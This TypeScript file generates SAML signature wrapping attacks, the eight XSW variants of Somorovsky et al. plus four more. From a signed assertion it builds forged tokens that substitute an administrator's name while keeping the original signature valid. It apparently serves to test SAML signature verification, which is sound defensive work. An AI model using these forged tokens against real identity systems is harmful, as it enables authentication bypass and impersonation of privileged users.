/**
 * The eight signature wrapping attacks of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012), in
 * the numbering of the SAML Raider tool. `S` is the signature taken from `signed`, `bare` is `signed` without it.
 */
export interface WrappingMaterial {
  readonly signed: string
  readonly idAttribute: 'AssertionID' | 'ID'
  /** Puts the name of an administrator where the user's was. */
  readonly forge: (assertion: string) => string
  readonly inEnvelope: (...tokens: readonly string[]) => string
}

const signatureElement = /<ds:Signature .*<\/ds:Signature>/s

export function wrappingAttacks(material: WrappingMaterial): readonly (readonly [string, string])[] {
  const { signed, inEnvelope } = material
  const signature = signatureElement.exec(signed)?.[0] ?? ''
  const bare = signed.replace(signatureElement, '')
  const evil = withOtherId(material.forge(bare), material.idAttribute)
  const evilSameId = material.forge(bare)
  const holding = (inside: string) => signature.replace('</ds:Signature>', `${inside}</ds:Signature>`)
  const object = (inside: string) => `<ds:Object>${inside}</ds:Object>`
  return [
    ['XSW1: evil token, the original inside its signature', inEnvelope(withChild(evil, holding(bare)))],
    ['XSW2: evil token, original and signature beside it', inEnvelope(evil, bare, signature)],
    ['XSW3: evil token before the original', inEnvelope(evil, signed)],
    ['XSW4: the original inside the evil token', inEnvelope(withChild(evil, signed))],
    ['XSW5: evil token with the signature, the bare original after it', inEnvelope(withChild(evil, signature), bare)],
    ['XSW6: the original inside the signature inside the evil token', inEnvelope(withChild(evilSameId, holding(bare)))],
    [
      'XSW7: evil token in extensions before the original',
      inEnvelope(`<x:Extensions xmlns:x="urn:x">${evil}</x:Extensions>`, signed),
    ],
    [
      'XSW8: the original in an object of the signature of the evil token',
      inEnvelope(withChild(evil, holding(object(bare)))),
    ],
    ['a forged copy under the same id before the original', inEnvelope(evilSameId, signed)],
    ['the signed original hidden in a value of the evil token', inEnvelope(inValue(evil, signed))],
    ['a forged token that keeps the signature', inEnvelope(withChild(evilSameId, signature))],
    ['a forged token under a new id that keeps the signature', inEnvelope(withChild(evil, signature))],
  ]
}

function withOtherId(assertion: string, idAttribute: string): string {
  return assertion.replace(new RegExp(` ${idAttribute}="[^"]*"`), ` ${idAttribute}="_evil"`)
}

function withChild(element: string, child: string): string {
  return element.replace(/<\/[^>]*>$/, (end) => child + end)
}

function inValue(assertion: string, hidden: string): string {
  return assertion.replace(/(AttributeValue)>/, (start) => start + hidden)
}
